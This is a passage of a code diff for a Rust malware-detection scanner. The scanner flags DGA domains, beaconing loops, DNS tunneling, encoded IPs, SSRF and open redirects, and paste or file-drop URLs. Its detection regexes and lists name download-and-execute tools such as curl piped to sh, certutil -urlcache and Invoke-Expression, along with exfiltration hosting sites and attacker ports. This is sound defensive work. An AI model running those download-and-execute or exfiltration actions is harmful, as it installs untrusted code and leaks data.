@@ -2,35 +2,393 @@
 //!
 //! Detects malicious network patterns:
 //! - Domain Generation Algorithms (DGA)
-//! - Beaconing patterns
+//! - Beaconing: timers and infinite loops that call out on a fixed
+//!   interval, and beacon sleep/jitter settings
 //! - DNS tunneling indicators
 //! - Suspicious API endpoints
-//! - Hardcoded IPs/ports
+//! - Hardcoded IPs/ports, including IPv6 and hex/dword-encoded IPv4
+//! - Downloaded executables run without integrity checks
+//! - Open redirects and SSRF-prone URL construction
+//! - Hostnames/IPs assembled from string fragments at runtime
+//! - URLs on paste sites, anonymous file drops and URL shorteners, which
+//!   malware uses to stage payloads and exfiltrate data
 
 use crate::skills::{
-    schema, Finding, ScanParams, Severity, Skill, SkillError, SkillOutput, SkillResult,
+    explained_types, find_explanation, offset_to_line_col, read_text_lossy, schema, Explanation,
+    Explanations, Finding, ScanParams, Severity, Skill, SkillError, SkillOutput, SkillResult,
 };
 use regex::Regex;
 use serde_json::{json, Value};
-use std::collections::HashSet;
-use std::fs;
+use std::collections::{HashMap, HashSet};
+use std::net::{Ipv4Addr, Ipv6Addr};
 use std::path::Path;
-use walkdir::WalkDir;
+
+/// Addresses that are never interesting as C2 endpoints
+const SAFE_IPS: &[&str] = &[
+    "127.0.0.1", "0.0.0.0", "255.255.255.255",
+    "192.168.0.1", "192.168.1.1", "10.0.0.1",
+];
+
+/// TLDs accepted when a hostname is reconstructed from fragments (a curated
+/// list keeps `"report" + ".txt"` style file names from matching)
+const ASSEMBLED_TLDS: &[&str] = &[
+    "com", "net", "org", "io", "xyz", "ru", "cn", "top", "info", "biz", "cc", "tk", "su",
+    "pw", "onion", "club", "online", "site", "me", "co", "us", "uk", "de", "to", "ws",
+];
+
+/// Most frequent English letter bigrams; algorithmically generated labels
+/// rarely hit them
+const ENGLISH_BIGRAMS: &[&str] = &[
+    "th", "he", "in", "er", "an", "re", "on", "at", "en", "nd", "ti", "es", "or", "te", "of",
+    "ed", "is", "it", "al", "ar", "st", "to", "nt", "ng", "se", "ha", "as", "ou", "io", "le",
+    "ve", "co", "me", "de", "hi", "ri", "ro", "ic", "ne", "ea", "ra", "ce", "li", "ch", "ll",
+    "be", "ma", "si", "om", "ur", "ca", "el", "ta", "la", "ns", "di", "fo", "ho", "pe", "ec",
+    "pr", "no", "ct", "us", "ac", "ot", "il", "tr", "ly", "nc", "et", "ut", "ss", "so", "rs",
+    "un", "lo", "wa", "ge", "ie", "wh", "ee", "wi", "em", "ad", "ol", "rt", "po", "we", "na",
+    "ul", "ni", "ts", "mo", "ow", "pa", "im", "mi", "ai", "sh", "ir", "su", "id", "os", "iv",
+    "ia", "am", "fi", "ci", "vi", "pl", "ig", "tu", "ev", "ld", "ry", "mp", "fe", "bl", "ab",
+    "gh", "ty", "op", "wo", "sa", "ay", "ex", "ke", "fr", "oo", "av", "ag", "if", "ap", "gr",
+    "od", "bo", "sp", "rd", "do", "uc", "bu", "ei", "ov", "by", "rm", "ep", "tt", "oc", "fa",
+    "ef", "cu", "rn", "sc", "gi", "da", "yo", "cr", "cl", "du", "ga", "qu", "ue", "ff", "ba",
+    "ey", "ls", "va", "um", "pp", "ua", "up", "lu", "go", "ht", "ru", "ug", "ds", "lt", "pi",
+    "rc", "rr", "eg", "au", "ck", "ew", "mu", "br", "bi", "pt", "ak", "pu", "ui", "rg", "ib",
+    "tl", "ny", "ki", "rk", "ys", "ob", "mm", "fu", "ph", "og", "ms", "ye", "ud", "mb", "ip",
+    "ub", "oi", "rl", "gu", "dr", "hr", "cc", "tw", "ft", "wn", "nu", "af", "hu", "nn", "eo",
+    "vo", "rv", "nf", "xp", "gn", "sm", "fl", "iz", "ok", "nl", "my", "gl", "aw", "ju", "oa",
+    "sy", "sl", "ps", "jo", "lf", "nv", "je", "nk", "kn", "gs", "dy", "hy", "ze", "ks", "xt",
+    "bs", "ik", "dd", "cy", "rp", "sk", "xi", "oe", "oy", "ws",
+];
+
+/// DGA score weight of the label's normalized character entropy
+const DGA_ENTROPY_WEIGHT: f64 = 0.3;
+
+/// DGA score weight of the share of letter bigrams that are uncommon in English
+const DGA_BIGRAM_WEIGHT: f64 = 0.5;
+
+/// DGA score weight of digit density (saturating at 25% digits)
+const DGA_DIGIT_WEIGHT: f64 = 0.2;
+
+/// Labels scoring at least this are reported as potential DGA domains
+const DGA_SCORE_THRESHOLD: f64 = 0.62;
+
+/// Shorter labels don't carry enough signal to score
+const DGA_MIN_LABEL_LEN: usize = 8;
+
+/// How many lines after a download an exec is still considered part of it
+const DOWNLOAD_EXEC_WINDOW: usize = 20;
+
+/// Subdomain labels at least this long look like encoded payload chunks
+const DNS_ENCODED_LABEL_LEN: usize = 24;
+
+/// Labels this long are near the 63-byte DNS limit and suspicious whatever
+/// they contain
+const DNS_LONG_LABEL_LEN: usize = 50;
+
+/// Shannon entropy (bits/char) a hex/base32-looking label needs to count
+/// as encoded data rather than an identifier
+const DNS_LABEL_ENTROPY_BITS: f64 = 3.3;
+
+/// Distinct encoded subdomains of one apex that make a tunnel session
+const DNS_TUNNEL_MIN_ENCODED: usize = 3;
+
+/// Distinct subdomains of one apex that count as unusually many
+const DNS_MANY_SUBDOMAINS: usize = 10;
+
+/// Second-level labels under which registrations sit one level deeper
+/// (example.co.uk)
+const DNS_SECOND_LEVEL_SUFFIXES: &[&str] = &["co", "com", "net", "org", "gov", "edu", "ac"];
+
+/// Beaconing sites reported per file
+const MAX_BEACONS: usize = 10;
+
+/// Lines after an infinite loop's header searched for its network call
+/// and sleep
+const BEACON_LOOP_LINES: usize = 30;
+
+/// Bytes of a timer callback or function body inspected for a network call
+const MAX_BEACON_BODY: usize = 4000;
+
+/// Extensions whose bare `sleep(n)` takes seconds rather than milliseconds
+const SLEEP_SECONDS_EXTENSIONS: &[&str] = &["py", "rb", "sh", "bash", "zsh", "pl", "lua"];
+
+/// Hosting services popular for payload staging and exfiltration, with
+/// their kind. Subdomains match too (`litter.catbox.moe`).
+const SUSPICIOUS_HOSTING_DOMAINS: &[(&str, &str)] = &[
+    ("pastebin.com", "paste"),
+    ("paste.ee", "paste"),
+    ("ghostbin.com", "paste"),
+    ("ghostbin.co", "paste"),
+    ("hastebin.com", "paste"),
+    ("rentry.co", "paste"),
+    ("controlc.com", "paste"),
+    ("dpaste.com", "paste"),
+    ("dpaste.org", "paste"),
+    ("paste.rs", "paste"),
+    ("termbin.com", "paste"),
+    ("ix.io", "paste"),
+    ("sprunge.us", "paste"),
+    ("transfer.sh", "file_drop"),
+    ("0x0.st", "file_drop"),
+    ("file.io", "file_drop"),
+    ("temp.sh", "file_drop"),
+    ("catbox.moe", "file_drop"),
+    ("anonfiles.com", "file_drop"),
+    ("gofile.io", "file_drop"),
+    ("bashupload.com", "file_drop"),
+    ("bit.ly", "shortener"),
+    ("tinyurl.com", "shortener"),
+    ("is.gd", "shortener"),
+    ("cutt.ly", "shortener"),
+    ("t.ly", "shortener"),
+    ("rb.gy", "shortener"),
+    ("shorturl.at", "shortener"),
+    ("tiny.cc", "shortener"),
+];
+
+/// Suspicious-hosting URLs reported per file
+const MAX_HOSTING_ENDPOINTS: usize = 10;
+
+/// Components of a domain label's DGA score
+struct DgaScore {
+    total: f64,
+    entropy: f64,
+    common_bigrams: f64,
+    digits: f64,
+}
+
+/// Operator guidance per finding type, for [`Skill::explain`]
+const EXPLANATIONS: Explanations = &[
+    Explanation::new(
+        "c2_beaconing",
+        "A network call made on a fixed interval: a setInterval or self-rearming setTimeout \
+         callback, or an infinite loop that sleeps between requests, or configuration that \
+         sets a beacon sleep and jitter.",
+        "Implants check in with their command server periodically to fetch tasks. The \
+         interval, often with jitter, is the signature of that callback loop.",
+        "Dashboards and clients that poll an API, health checks, and metrics pushers.",
+        "Confirm the host being contacted and why it is polled. Unknown hosts contacted on a \
+         timer should be blocked and the code removed.",
+    ),
+    Explanation::new(
+        "assembled_domain",
+        "A domain or URL built at runtime from fragments, character codes, or array joins rather \
+         than written out.",
+        "Splitting a C2 address keeps it out of string searches and simple blocklists. Benign \
+         code rarely needs to hide a hostname.",
+        "URL builders that join a configured host with a path, and localization code that \
+         assembles strings.",
+        "Reconstruct the domain (the finding includes it) and check it against threat \
+         intelligence. Replace assembly with a plain configured value if the code is legitimate.",
+    ),
+    Explanation::new(
+        "base64_domain",
+        "A base64 string that decodes to a domain name or URL.",
+        "Encoding endpoints hides them from reviewers and static scanners, which is typical of \
+         droppers and stealers.",
+        "Fixtures for encoding tests and embedded config blobs that happen to contain URLs.",
+        "Decode the value and check the domain. Store legitimate endpoints in plain \
+         configuration.",
+    ),
+    Explanation::new(
+        "dns_tunneling",
+        "Many long, high-entropy subdomains of one apex domain, or code that builds such names \
+         from data.",
+        "Data encoded into DNS labels gets through firewalls that allow name resolution, so DNS \
+         tunnels carry both exfiltration and C2.",
+        "CDN hostnames with hashes, cloud service endpoints, and DKIM selectors.",
+        "Look up the apex domain. Block it and find the code that generates the labels if it is \
+         not a service you use.",
+    ),
+    Explanation::new(
+        "encoded_ip_address",
+        "An IP address written in decimal, hex, or octal form, such as 2130706433 for 127.0.0.1.",
+        "Unusual notations get past URL filters and SSRF checks that only recognize dotted quads.",
+        "Networking libraries and tests that parse these forms on purpose.",
+        "Convert the value to a dotted address and check it. Reject non-standard forms in any \
+         code that validates addresses.",
+    ),
+    Explanation::new(
+        "hardcoded_public_ip",
+        "A literal public IP address in code or configuration.",
+        "Fixed addresses are a common way for malware to reach its C2 without DNS. Unlike domains \
+         they are hard to take down or sinkhole.",
+        "Public DNS resolvers, documentation examples, and service endpoints pinned for a reason.",
+        "Check who owns the address. Move legitimate endpoints to configuration and remove \
+         unknown ones.",
+    ),
+    Explanation::new(
+        "potential_dga_domain",
+        "A domain whose name looks machine-generated: high entropy, few vowels, and unusual \
+         letter pairs.",
+        "Domain generation algorithms produce thousands of throwaway names so C2 survives \
+         takedowns, and the names look like this.",
+        "Hash-based CDN names, short random IDs in test fixtures, and some legitimate brand \
+         names.",
+        "Look the domain up in threat intelligence and passive DNS. Find the code that produced \
+         it if it was generated.",
+    ),
+    Explanation::new(
+        "suspicious_ports",
+        "A connection to a port commonly used by remote access tools, such as 4444, 1337, or \
+         31337.",
+        "Default ports of Metasploit and other frameworks show up in real intrusions because \
+         operators rarely change them.",
+        "Local development servers and services that happen to use these ports.",
+        "Check what listens on the other end. Prefer standard ports behind TLS for legitimate \
+         services.",
+    ),
+    Explanation::new(
+        "unverified_download_execution",
+        "Code or scripts that download something and run it without checking a signature or \
+         checksum, such as curl piped to sh.",
+        "Whoever controls the server or the network path controls what runs. This is the most \
+         common way malware is installed.",
+        "Installer one-liners from reputable vendors and CI scripts that fetch known tools.",
+        "Pin the download to a version, verify a checksum or signature before running it, or \
+         install through a package manager.",
+    ),
+    Explanation::new(
+        "open_redirect",
+        "A redirect whose destination comes from user input without validation.",
+        "Attackers use open redirects on a trusted domain to make phishing links look legitimate \
+         and to steal OAuth tokens.",
+        "Redirects that are already restricted to relative paths or an allowlist the scanner \
+         could not see.",
+        "Only redirect to relative paths or to hosts on an allowlist. Reject absolute URLs taken \
+         from parameters.",
+    ),
+    Explanation::new(
+        "ssrf",
+        "A server-side request whose URL or host comes from user input.",
+        "Server-side request forgery lets attackers reach internal services and cloud metadata \
+         endpoints through your server.",
+        "Webhooks and URL previews that already validate the host somewhere the scanner cannot \
+         see.",
+        "Resolve the host and reject private, loopback, and link-local addresses. Use an \
+         allowlist where possible and disable redirects.",
+    ),
+    Explanation::new(
+        "suspicious_hosting_endpoint",
+        "A URL on a paste site, anonymous file drop or URL shortener, such as pastebin.com/raw, \
+         transfer.sh or bit.ly. High when the same file also downloads and executes something.",
+        "These services need no account, change content without notice and hide the real \
+         destination, so malware uses them to stage second-stage payloads and to upload stolen \
+         data.",
+        "Documentation and chat snippets that link to pastes, and shortened links in READMEs \
+         or marketing pages.",
+        "Fetch the URL in a sandbox to see what it serves. Replace it with a pinned, verified \
+         artifact on infrastructure you control.",
+    ),
+];
 
 pub struct NetworkDetector {
     ip_regex: Regex,
+    ipv6_regex: Regex,
+    encoded_ip_regex: Regex,
+    net_call_regex: Regex,
     url_regex: Regex,
     port_regex: Regex,
     base64_domain_regex: Regex,
+    download_regex: Regex,
+    exec_regex: Regex,
+    verify_regex: Regex,
+    redirect_sink_regex: Regex,
+    fetch_sink_regex: Regex,
+    user_source_regex: Regex,
+    taint_assign_regex: Regex,
+    url_validation_regex: Regex,
+    concat_regex: Regex,
+    string_literal_regex: Regex,
+    char_code_regex: Regex,
+    char_array_regex: Regex,
+    hostname_regex: Regex,
+    timer_call_regex: Regex,
+    beacon_send_regex: Regex,
+    infinite_loop_regex: Regex,
+    sleep_regex: Regex,
+    beacon_config_regex: Regex,
+    jitter_regex: Regex,
+    url_assign_regex: Regex,
+    beacon_host_regex: Regex,
+    relative_url_regex: Regex,
 }
 
 impl NetworkDetector {
     pub fn new() -> Self {
         Self {
             ip_regex: Regex::new(r"\b(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})\b").unwrap(),
+            // Candidates only; validated by parsing as Ipv6Addr
+            ipv6_regex: Regex::new(r"(?i)(?:^|[^\w:.])((?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4})").unwrap(),
+            // 0x7f000001 or 2130706433
+            encoded_ip_regex: Regex::new(r"\b(0[xX][0-9a-fA-F]{8}|[1-9]\d{7,9})\b").unwrap(),
+            // Calls that make an encoded integer nearby plausible as an address
+            net_call_regex: Regex::new(
+                r"(?i)(\bconnect\s*\(|\bsocket\b|inet_(?:addr|aton|pton|ntoa)|sockaddr|\bfetch\s*\(|urlopen|requests\.|\bcurl\b|\bwget\b|\bping\b)"
+            ).unwrap(),
             url_regex: Regex::new(r#"https?://([a-zA-Z0-9][-a-zA-Z0-9]*\.)+[a-zA-Z]{2,}"#).unwrap(),
             port_regex: Regex::new(r":(\d{2,5})\b").unwrap(),
             base64_domain_regex: Regex::new(r"[A-Za-z0-9+/]{20,}\.(?:com|net|org|io|xyz)").unwrap(),
+            download_regex: Regex::new(
+                r"(?i)\b(curl|wget|Invoke-WebRequest|iwr|Start-BitsTransfer|urlretrieve|DownloadFile|certutil\s+-urlcache)\b"
+            ).unwrap(),
+            exec_regex: Regex::new(
+                r"(?i)(\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|chmod\s+[+0-7]*x|^\s*\./|\b(?:bash|sh)\s+\S+\.sh\b|Start-Process|\biex\b|Invoke-Expression|subprocess\.(?:run|call|Popen)|os\.system|os\.startfile)"
+            ).unwrap(),
+            verify_regex: Regex::new(
+                r"(?i)(sha(?:1|256|512)sum|shasum|gpg\s+--verify|gpgv|cosign\s+verify|minisign|signify|Get-FileHash|hashlib\.sha|openssl\s+dgst|checksum|verify_signature)"
+            ).unwrap(),
+            // Redirect sinks: Express/Koa/Flask/Django redirects, PHP Location header, DOM location
+            redirect_sink_regex: Regex::new(
+                r#"(?:\b(?:res|response|ctx|reply)\.redirect|\bredirect|HttpResponseRedirect)\s*\(\s*(?:\d{3}\s*,\s*)?([^,;)\n]+)|header\s*\(\s*["']Location:\s*["']\s*\.\s*([^);\n]+)|\b(?:window\.)?location(?:\.href)?\s*=\s*([^;\n]+)"#
+            ).unwrap(),
+            // Outbound request sinks
+            fetch_sink_regex: Regex::new(
+                r"\b(?:fetch|axios(?:\.(?:get|post|put|request))?|got|http\.get|https\.get|requests\.(?:get|post|put|head|request)|httpx\.(?:get|post)|urlopen|file_get_contents|curl_init)\s*\(\s*([^,;)\n]+)"
+            ).unwrap(),
+            // Request-derived input
+            user_source_regex: Regex::new(
+                r"(?i)(req(?:uest)?\.(?:query|params|body|args|GET|POST|form|json|values)|\$_(?:GET|POST|REQUEST)|searchParams\.get|location\.(?:search|hash))"
+            ).unwrap(),
+            // `x = req.query.url` style one-hop taint
+            taint_assign_regex: Regex::new(
+                r"(?i)\b(?:const|let|var)?\s*\$?(\w+)\s*=\s*[^=;\n]*(?:req(?:uest)?\.(?:query|params|body|args|GET|POST|form|json|values)|\$_(?:GET|POST|REQUEST)|searchParams\.get)"
+            ).unwrap(),
+            // Host validation / allowlisting
+            url_validation_regex: Regex::new(
+                r"(?i)(new\s+URL\s*\(|URL\.parse|urlparse|urlsplit|parse_url|\.hostname|allow_?list|white_?list|allowed_?hosts|is_safe_url|url_has_allowed_host_and_scheme|startsWith\s*\(\s*['\x22]/['\x22])"
+            ).unwrap(),
+            // Two or more string literals joined with + (JS/Python/Java), . (PHP) or .. (Lua)
+            concat_regex: Regex::new(
+                r#"(?:"[^"\n]*"|'[^'\n]*')(?:\s*(?:\+|\.\.?)\s*(?:"[^"\n]*"|'[^'\n]*'))+"#
+            ).unwrap(),
+            string_literal_regex: Regex::new(r#""([^"\n]*)"|'([^'\n]*)'"#).unwrap(),
+            // String.fromCharCode(104, 116, ...)
+            char_code_regex: Regex::new(r"String\.fromCharCode\s*\(\s*((?:\d{2,3}\s*,\s*)+\d{2,3})\s*\)").unwrap(),
+            // ['e','v','i','l'].join('')
+            char_array_regex: Regex::new(
+                r#"\[\s*((?:["'][^"'\n]["']\s*,\s*){3,}["'][^"'\n]["'])\s*\]\s*\.join\s*\(\s*["']["']\s*\)"#
+            ).unwrap(),
+            hostname_regex: Regex::new(r"(?i)\b((?:[a-z0-9][-a-z0-9]*\.)+([a-z]{2,6}))\b").unwrap(),
+            timer_call_regex: Regex::new(r"\b(setInterval|setTimeout)\s*\(").unwrap(),
+            // Calls that send something over the network
+            beacon_send_regex: Regex::new(
+                r"(?i)(?:\bfetch\s*\(|\baxios\b|\bsendBeacon\b|XMLHttpRequest|new\s+WebSocket\b|\bxhr\.send\b|\bhttps?\.(?:get|post|request)\s*\(|\brequests\.(?:get|post|put)\s*\(|\burlopen\s*\(|\bcurl\b|\bwget\b|Invoke-(?:WebRequest|RestMethod))"
+            ).unwrap(),
+            // while(true), while True:, while 1, loop {, for(;;), Go's for {, shell while true; do
+            infinite_loop_regex: Regex::new(
+                r"(?m)^[ \t]*(?:while\s*\(?\s*(?:true|True|1)\s*\)?\s*[:{]?|loop\s*\{|for\s*\(\s*;\s*;\s*\)|for\s*\{|while\s+(?:true|:)\s*;\s*do\b)"
+            ).unwrap(),
+            sleep_regex: Regex::new(
+                r"(?i)\btime\.sleep\s*\(\s*(?P<secs>\d+(?:\.\d+)?)|\bfrom_secs\s*\(\s*(?P<rust_secs>\d+)|\bfrom_millis\s*\(\s*(?P<millis>\d+)|\btime\.Sleep\s*\(\s*(?P<go>\d+)\s*\*\s*time\.(?P<go_unit>Millisecond|Second|Minute)|\bsleep\s*\(\s*(?P<bare>\d+)\s*\)|\bStart-Sleep\s+(?:-Seconds\s+)?(?P<ps>\d+)|\bsleep\s+(?P<shell>\d+)\b"
+            ).unwrap(),
+            // sleeptime = 60000, "beacon_interval": 30, set sleeptime "60000";
+            beacon_config_regex: Regex::new(
+                r#"(?i)["']?\b(beacon_?interval|callback_?interval|check_?in_?interval|sleep_?time|sleep|heartbeat_?interval)["']?(?:\s*[:=]\s*|\s+)["']?(\d+)"#
+            ).unwrap(),
+            jitter_regex: Regex::new(r#"(?i)["']?\bjitter["']?(?:\s*[:=]\s*|\s+)["']?(\d+)"#).unwrap(),
+            url_assign_regex: Regex::new(r#"([A-Za-z_$][\w$]*)\s*[:=]\s*["'`](https?://[^"'`\s]+)"#).unwrap(),
+            beacon_host_regex: Regex::new(r#"https?://([^/:"'`\s]+)"#).unwrap(),
+            relative_url_regex: Regex::new(r#"["'`]\.?/[^/]"#).unwrap(),
         }
     }
 
@@ -47,6 +405,72 @@ impl NetworkDetector {
         consonant_count as f64 / letters.len() as f64
     }
 
+    /// Score the registrable label of `domain` (the one before the TLD) for
+    /// DGA characteristics; `None` for IPs and labels too short to judge
+    fn dga_score(domain: &str) -> Option<(String, DgaScore)> {
+        let host = domain.split(':').next().unwrap_or(domain).to_lowercase();
+        if host.chars().all(|c| c.is_ascii_digit() || c == '.') {
+            return None;
+        }
+
+        let mut labels = host.rsplit('.');
+        let label = match (labels.next(), labels.next()) {
+            (Some(_tld), Some(label)) => label,
+            (Some(only), None) => only,
+            _ => return None,
+        };
+
+        // Hyphens separate words; score the pieces joined
+        let parts: Vec<&str> = label.split('-').filter(|p| !p.is_empty()).collect();
+        let joined: String = parts.concat();
+        if joined.len() < DGA_MIN_LABEL_LEN {
+            return None;
+        }
+
+        let len = joined.len() as f64;
+        let mut counts: HashMap<char, usize> = HashMap::new();
+        for c in joined.chars() {
+            *counts.entry(c).or_insert(0) += 1;
+        }
+        let entropy: f64 = counts
+            .values()
+            .map(|&n| {
+                let p = n as f64 / len;
+                -p * p.log2()
+            })
+            .sum();
+        // Normalize against the best a label this long could reach over [a-z0-9]
+        let entropy = entropy / len.min(36.0).log2();
+
+        let bigrams: Vec<&str> = parts
+            .iter()
+            .flat_map(|part| (0..part.len().saturating_sub(1)).map(move |i| &part[i..i + 2]))
+            .filter(|pair| pair.chars().all(|c| c.is_ascii_alphabetic()))
+            .collect();
+        let common_bigrams = if bigrams.is_empty() {
+            0.0
+        } else {
+            bigrams.iter().filter(|b| ENGLISH_BIGRAMS.contains(b)).count() as f64
+                / bigrams.len() as f64
+        };
+
+        let digits = joined.chars().filter(|c| c.is_ascii_digit()).count() as f64 / len;
+
+        let total = DGA_ENTROPY_WEIGHT * entropy
+            + DGA_BIGRAM_WEIGHT * (1.0 - common_bigrams)
+            + DGA_DIGIT_WEIGHT * (digits * 4.0).min(1.0);
+
+        Some((
+            label.to_string(),
+            DgaScore {
+                total,
+                entropy,
+                common_bigrams,
+                digits,
+            },
+        ))
+    }
+
     /// Detect potential DGA domains
     fn detect_dga_domains(&self, path: &Path, content: &str) -> Vec<Finding> {
         let mut findings = Vec::new();
@@ -56,28 +480,32 @@ impl NetworkDetector {
 
             // Extract domain
             if let Some(domain) = url.split("://").nth(1).and_then(|s| s.split('/').next()) {
-                let domain_no_tld = domain.split('.').next().unwrap_or("");
-
-                // Check for DGA indicators
-                let ratio = self.consonant_ratio(domain_no_tld);
-                let has_numbers = domain_no_tld.chars().any(|c| c.is_numeric());
-                let length = domain_no_tld.len();
+                let Some((label, score)) = Self::dga_score(domain) else {
+                    continue;
+                };
 
-                // DGA domains often: high consonant ratio, contain numbers, unusual length
-                if ratio > 0.7 && has_numbers && length > 10 {
+                if score.total >= DGA_SCORE_THRESHOLD {
                     findings.push(Finding {
                         finding_type: "potential_dga_domain".to_string(),
                         value: json!({
                             "domain": domain,
-                            "consonant_ratio": ratio,
-                            "length": length
+                            "label": label,
+                            "score": score.total,
+                            "entropy": score.entropy,
+                            "common_bigram_ratio": score.common_bigrams,
+                            "digit_ratio": score.digits,
+                            "consonant_ratio": self.consonant_ratio(&label),
+                            "length": label.len()
                         }),
-                        confidence: 0.75,
+                        confidence: (0.7 + (score.total - DGA_SCORE_THRESHOLD)).min(0.95) as f32,
                         location: path.display().to_string(),
                         severity: Severity::High,
                         metadata: json!({
                             "pattern": "Domain Generation Algorithm",
-                            "description": format!("Domain '{}' has DGA characteristics", domain)
+                            "description": format!(
+                                "Domain '{}' looks algorithmically generated (score {:.2})",
+                                domain, score.total
+                            )
                         }),
                     });
                 }
@@ -102,39 +530,283 @@ impl NetworkDetector {
         findings
     }
 
-    /// Detect hardcoded IPs (potential C2)
-    fn detect_hardcoded_ips(&self, path: &Path, content: &str) -> Vec<Finding> {
+    /// Shannon entropy of `label` in bits per character
+    fn label_entropy(label: &str) -> f64 {
+        let len = label.len() as f64;
+        let mut counts: HashMap<u8, usize> = HashMap::new();
+        for b in label.bytes() {
+            *counts.entry(b).or_insert(0) += 1;
+        }
+        counts
+            .values()
+            .map(|&n| {
+                let p = n as f64 / len;
+                -p * p.log2()
+            })
+            .sum()
+    }
+
+    /// Whether a subdomain label looks like a chunk of hex or base32
+    /// encoded data: long, drawn from one of those alphabets, containing
+    /// digits (words don't) and close to random
+    fn is_encoded_label(label: &str) -> bool {
+        let hex = label.bytes().all(|b| b.is_ascii_hexdigit());
+        let base32 = label.bytes().all(|b| b.is_ascii_lowercase() || (b'2'..=b'7').contains(&b));
+        label.len() >= DNS_ENCODED_LABEL_LEN
+            && (hex || base32)
+            && label.bytes().any(|b| b.is_ascii_digit())
+            && Self::label_entropy(label) >= DNS_LABEL_ENTROPY_BITS
+    }
+
+    /// Split a lowercase hostname into (subdomain, apex); `None` when there
+    /// is no subdomain
+    fn split_apex(host: &str) -> Option<(&str, &str)> {
+        let labels: Vec<&str> = host.split('.').collect();
+        let tld = labels.last()?;
+        let second = labels.len().checked_sub(2).map(|i| labels[i])?;
+        let apex_labels = if tld.len() == 2 && DNS_SECOND_LEVEL_SUFFIXES.contains(&second) {
+            3
+        } else {
+            2
+        };
+        if labels.len() <= apex_labels {
+            return None;
+        }
+
+        let apex_start = labels[..labels.len() - apex_labels]
+            .iter()
+            .map(|label| label.len() + 1)
+            .sum();
+        Some((&host[..apex_start - 1], &host[apex_start..]))
+    }
+
+    /// Detect hostnames that look like DNS tunnel queries: encoded data
+    /// (long, hex/base32-looking, high-entropy labels) in the subdomains of
+    /// one apex, reported per apex and stronger when many distinct
+    /// subdomains share it
+    fn detect_dns_tunneling(&self, path: &Path, content: &str) -> Vec<Finding> {
         let mut findings = Vec::new();
 
-        // Exclude common safe IPs
-        let safe_ips: HashSet<&str> = [
-            "127.0.0.1", "0.0.0.0", "255.255.255.255",
-            "192.168.0.1", "192.168.1.1", "10.0.0.1",
-        ].iter().cloned().collect();
+        let mut by_apex: HashMap<String, Vec<String>> = HashMap::new();
+        for cap in self.hostname_regex.captures_iter(content) {
+            let host = cap[1].to_ascii_lowercase();
+            if let Some((subdomain, apex)) = Self::split_apex(&host) {
+                let subdomains = by_apex.entry(apex.to_string()).or_default();
+                if !subdomains.iter().any(|s| s == subdomain) {
+                    subdomains.push(subdomain.to_string());
+                }
+            }
+        }
 
-        let mut found_ips: HashSet<String> = HashSet::new();
+        let mut apexes: Vec<_> = by_apex.into_iter().collect();
+        apexes.sort();
+        for (apex, subdomains) in apexes {
+            let encoded: Vec<&String> = subdomains
+                .iter()
+                .filter(|sub| {
+                    sub.split('.').any(|label| {
+                        label.len() >= DNS_LONG_LABEL_LEN || Self::is_encoded_label(label)
+                    })
+                })
+                .collect();
+            if encoded.is_empty() {
+                continue;
+            }
 
-        for cap in self.ip_regex.captures_iter(content) {
-            let ip = &cap[1];
+            let max_label = encoded
+                .iter()
+                .flat_map(|sub| sub.split('.'))
+                .map(str::len)
+                .max()
+                .unwrap_or(0);
+            let session =
+                encoded.len() >= DNS_TUNNEL_MIN_ENCODED || subdomains.len() >= DNS_MANY_SUBDOMAINS;
+            let (severity, confidence) = if session {
+                (Severity::High, 0.85)
+            } else {
+                (Severity::Medium, 0.75)
+            };
+            let samples: Vec<&String> = encoded.iter().take(5).copied().collect();
+
+            findings.push(Finding {
+                finding_type: "dns_tunneling".to_string(),
+                value: json!({
+                    "apex": apex,
+                    "distinct_subdomains": subdomains.len(),
+                    "encoded_subdomains": encoded.len(),
+                    "max_label_length": max_label,
+                    "samples": samples
+                }),
+                confidence,
+                location: path.display().to_string(),
+                severity,
+                metadata: json!({
+                    "pattern": "DNS tunneling",
+                    "description": format!(
+                        "{} of {} distinct subdomains of {} carry encoded-looking data",
+                        encoded.len(),
+                        subdomains.len(),
+                        apex
+                    )
+                }),
+            });
+        }
+
+        findings
+    }
+
+    /// Whether a dotted-quad address is public (not loopback/placeholder/RFC 1918)
+    fn is_public_ip(ip: &str) -> bool {
+        if SAFE_IPS.contains(&ip) {
+            return false;
+        }
+
+        let octets: Vec<u8> = ip.split('.').filter_map(|s| s.parse().ok()).collect();
+        !(octets.len() == 4
+            && (octets[0] == 10
+                || (octets[0] == 172 && octets[1] >= 16 && octets[1] <= 31)
+                || (octets[0] == 192 && octets[1] == 168)))
+    }
 
-            // Skip safe IPs and duplicates
-            if safe_ips.contains(ip) || found_ips.contains(ip) {
+    /// Whether an IPv6 address is public (not loopback, unspecified,
+    /// link-local, unique-local or multicast). IPv4-mapped addresses use
+    /// the IPv4 rules.
+    fn is_public_ipv6(ip: &Ipv6Addr) -> bool {
+        if let Some(v4) = ip.to_ipv4_mapped() {
+            return Self::is_public_ip(&v4.to_string());
+        }
+
+        let first = ip.segments()[0];
+        !(ip.is_loopback()
+            || ip.is_unspecified()
+            || ip.is_multicast()
+            || (first & 0xffc0) == 0xfe80
+            || (first & 0xfe00) == 0xfc00)
+    }
+
+    /// IPv6 addresses in `content`, in canonical (compressed) form
+    fn find_ipv6(&self, content: &str) -> Vec<Ipv6Addr> {
+        self.ipv6_regex
+            .captures_iter(content)
+            .filter_map(|cap| {
+                let m = cap.get(1)?;
+                // `std::fs` or `10:30:00.5`: the run continues past the hex digits
+                let next = content[m.end()..].chars().next();
+                if next.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.') {
+                    return None;
+                }
+                m.as_str().parse().ok()
+            })
+            .collect()
+    }
+
+    /// Resolve a hex (`0x7f000001`) or dword (`2130706433`) IPv4 literal
+    fn decode_encoded_ipv4(literal: &str) -> Option<(Ipv4Addr, &'static str)> {
+        let (value, encoding) = match literal.strip_prefix("0x").or(literal.strip_prefix("0X")) {
+            Some(hex) => (u32::from_str_radix(hex, 16).ok()?, "hex"),
+            None => (literal.parse::<u32>().ok()?, "dword"),
+        };
+
+        // Below 1.0.0.0 is more likely a plain number than an address
+        (value >= 1 << 24).then(|| (Ipv4Addr::from(value), encoding))
+    }
+
+    /// Detect IPv4 addresses written as integers next to networking code
+    fn detect_encoded_ips(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let lines: Vec<&str> = content.lines().collect();
+        let mut seen: HashSet<String> = HashSet::new();
+        let mut encoded = Vec::new();
+        let mut summary = Vec::new();
+
